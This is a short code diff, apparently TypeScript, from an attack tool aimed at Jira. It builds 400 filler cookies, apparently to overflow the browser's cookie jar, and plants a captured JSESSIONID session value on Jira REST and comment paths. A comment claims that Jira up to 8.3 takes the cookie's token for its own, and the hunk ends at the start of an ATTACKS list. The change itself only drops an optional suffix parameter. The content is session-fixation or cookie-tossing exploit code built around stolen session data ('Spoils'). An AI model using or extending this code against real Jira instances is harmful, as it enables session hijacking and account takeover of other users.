@@ -49,9 +49,9 @@ const sessionOfHisOwn = ({ token, session }: Spoils, base = ''): string[] => [
 const CROWD = Array.from({ length: 400 }, (_, n) => `crowd${n}=1; Path=/`);
 
 /** His session alone, where things are sent to: up to Jira 8.3 it takes the cookie's token for its own. */
-const sessionAlone = ({ session }: Spoils, name = 'JSESSIONID', more = ''): string[] =>
+const sessionAlone = ({ session }: Spoils, name = 'JSESSIONID'): string[] =>
   ['/rest/internal', '/rest/jddap', '/secure/AddComment.jspa'].map(
-    (path) => `${name}=${session}; Path=${path}; HttpOnly${more}`,
+    (path) => `${name}=${session}; Path=${path}; HttpOnly`,
   );
 
 const ATTACKS: readonly Attack[] = [
